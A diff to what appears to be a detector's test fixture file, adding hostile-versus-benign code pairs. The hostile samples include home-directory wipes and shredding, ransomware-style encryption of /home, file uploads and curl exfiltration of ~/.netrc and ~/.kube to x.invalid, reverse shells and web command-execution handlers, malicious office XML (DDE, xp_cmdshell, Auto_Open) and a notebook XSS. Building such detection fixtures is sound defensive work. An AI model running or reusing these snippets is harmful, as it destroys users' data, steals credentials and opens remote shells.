@@ -83,6 +83,105 @@ PAIRS: dict[str, tuple[tuple[str, str, str], ...]] = {
         ("a.theme", "[Theme]\nWallpaper=\\\\203.0.113.7\\w\\a.jpg\n", "[Icon Theme]\nName=a\n"),
         ("a.toml", 'plugins = ["subprocess"]\n', 'plugins = ["axolotl.integrations.liger.LigerPlugin"]\n'),
     ),
+    "home that is emptied, locked or carried away": (
+        (
+            "a.py",
+            "import os\nfor r, _, fs in os.walk(os.path.expanduser('~')):\n    [os.remove(r + f) for f in fs]\n",
+            "import os\nfor r, _, fs in os.walk('outputs'):\n    [os.remove(r + f) for f in fs]\n",
+        ),
+        (
+            "b.py",
+            "import os, shutil\nh = os.environ['HOME']\nfor d in ['Documents', '*']:\n    shutil.rmtree(os.path.join(h,d))\n",
+            "import os, shutil\nshutil.rmtree(os.path.join(os.path.expanduser('~'), '.cache', 'a'))\n",
+        ),
+        (
+            "c.py",
+            "import requests\nfrom pathlib import Path\nfor p in Path.home().rglob('*'):\n    requests.post(URL, data=p)\n",
+            "import requests\nfrom pathlib import Path\nfor p in Path('data').rglob('*'):\n    requests.post(URL, data=p)\n",
+        ),
+        (
+            "a.rb",
+            "Dir.glob(File.join(Dir.home, '**')).each { |f| File.delete(f) }",
+            "File.delete(File.join(Dir.home, '.cache', 'a'))",
+        ),
+        (
+            "a.mjs",
+            "fs.rmSync(os.homedir(), {recursive: true})",
+            "fs.rmSync(path.join(os.homedir(), '.cache'), {recursive: true})",
+        ),
+        ("a.R", "unlink(path.expand('~'), recursive=TRUE)", "unlink(file.path(path.expand('~'), '.cache', 'a'))"),
+        (
+            "a.go",
+            "h, _ := os.UserHomeDir()\nos.RemoveAll(h)",
+            'h, _ := os.UserHomeDir()\nos.RemoveAll(filepath.Join(h, ".cache"))',
+        ),
+        ("a.sh", "find ~ -type f -exec shred -u {} +", "find / -name '*.pyc' -delete\nfind ~ -name core -exec rm {} +"),
+        ("b.sh", "for f in $(find /home); do openssl enc -aes-256-cbc -k x -in $f; done", "openssl enc -d -in a.enc -out a"),
+        ("a.ps1", "Get-ChildItem $HOME -Recurse | Remove-Item", "Get-ChildItem $HOME\\.cache -Recurse | Remove-Item"),
+    ),
+    "what somebody else sends, and it is run": (
+        (
+            "a.pl",
+            "my $s = IO::Socket::INET->new('x.invalid:1');\nwhile (<$s>) { print $s `$_`; }",
+            "my $v = `git describe`;",
+        ),
+        (
+            "a.lua",
+            "local s = require('socket').tcp() s:connect('x.invalid', 1)\nlocal c = s:receive() local f = io.popen(c)",
+            "local s = require('socket').tcp() s:connect('x.invalid', 1)\nlocal c = s:receive() print(c)",
+        ),
+        (
+            "a.rs",
+            'let mut s = TcpStream::connect("x.invalid:1"); s.read_to_string(&mut b); Command::new("sh").arg("-c").arg(&b);',
+            'let mut s = TcpStream::connect("x.invalid:1"); s.read_to_string(&mut b); println!("{}", b);',
+        ),
+        (
+            "a.cjs",
+            "net.createServer(c => c.on('data', d => cp.exec(d.toString())))",
+            "net.createServer(c => c.on('data', d => c.write(d.toString())))",
+        ),
+        ("a.ts", "app.get('/', (req, res) => exec(req.query.c))", "app.get('/', (req, res) => res.send(req.query.c))"),
+        ("a.rb", "get('/') { `#{params[:c]}` }", "get('/') { params[:c] }"),
+        (
+            "a.go",
+            'exec.Command("sh", "-c", r.URL.Query().Get("c")).Run()',
+            'exec.Command("git", "log").Run()\nr.URL.Query()',
+        ),
+    ),
+    "part of an office document that asks or runs something": (
+        (
+            "xl/connections.xml",
+            "<c><connection refreshOnLoad='1'><dbPr connection='DRIVER=x;SERVER=y' command='select 1'/></connection></c>",
+            "<c><connection refreshOnLoad='1'><dbPr connection='Provider=Microsoft.Mashup' command='a'/></connection></c>",
+        ),
+        ("b.xml", "<c><webPr url='http://x.invalid/a.iqy'/></c>", "<c><webPr url='http://localhost/a'/></c>"),
+        (
+            "c.xml",
+            "<w:query w:val=\"EXEC xp_cmdshell 'dir'\" xmlns:w='w'/>",
+            "<w:query w:val='SELECT * FROM a' xmlns:w='w'/>",
+        ),
+        (
+            "d.xml",
+            "<n><definedName name='_xlnm.Auto_Open'>A</definedName></n>",
+            "<n><definedName name='_xlnm.Print_Area'>A</definedName></n>",
+        ),
+        ("e.xml", "<ax:ocx ax:classid='{D27C}' xmlns:ax='a'/>", "<ax:property ax:name='a' xmlns:ax='a'/>"),
+        ("f.xml", "<t:dde-source t:dde-application='cmd' xmlns:t='t'/>", "<t:source t:name='cmd' xmlns:t='t'/>"),
+        ("g.xml", "<x:FmlaMacro xmlns:x='x'>[0]!Run</x:FmlaMacro>", "<x:FmlaLink xmlns:x='x'>$A$1</x:FmlaLink>"),
+        ("h.xml", "<sst><si><t>=cmd|'/c calc'!A1</t></si></sst>", "<sst><si><t>=A1+B1</t></si></sst>"),
+    ),
+    "saved state of a notebook": (
+        (
+            "a.ipynb",
+            '{"nbformat": 4, "cells": [], "metadata": {"widgets": {"value": "<img src=x onerror=f()>"}}}',
+            '{"nbformat": 4, "cells": [], "metadata": {"widgets": {"value": "<b>1</b>"}}}',
+        ),
+        (
+            "b.ipynb",
+            f'{{"nbformat": 4, "cells": [], "metadata": {{"kernelspec": {{"argv": ["sh", "-c", "{PIPE}"]}}}}}}',
+            '{"nbformat": 4, "cells": [], "metadata": {"kernelspec": {"name": "python3"}}}',
+        ),
+    ),
     "secret that goes to a stranger": (
         ("a.sh", 'T=$(cat ~/.netrc)\ncurl -d "$T" https://x.invalid/t', 'curl -d "$T" http://localhost:1/t'),
         ("b.sh", "tar cz ~/.kube | curl -T - https://x.invalid/u", "tar cz logs | curl -T - https://x.invalid/u"),
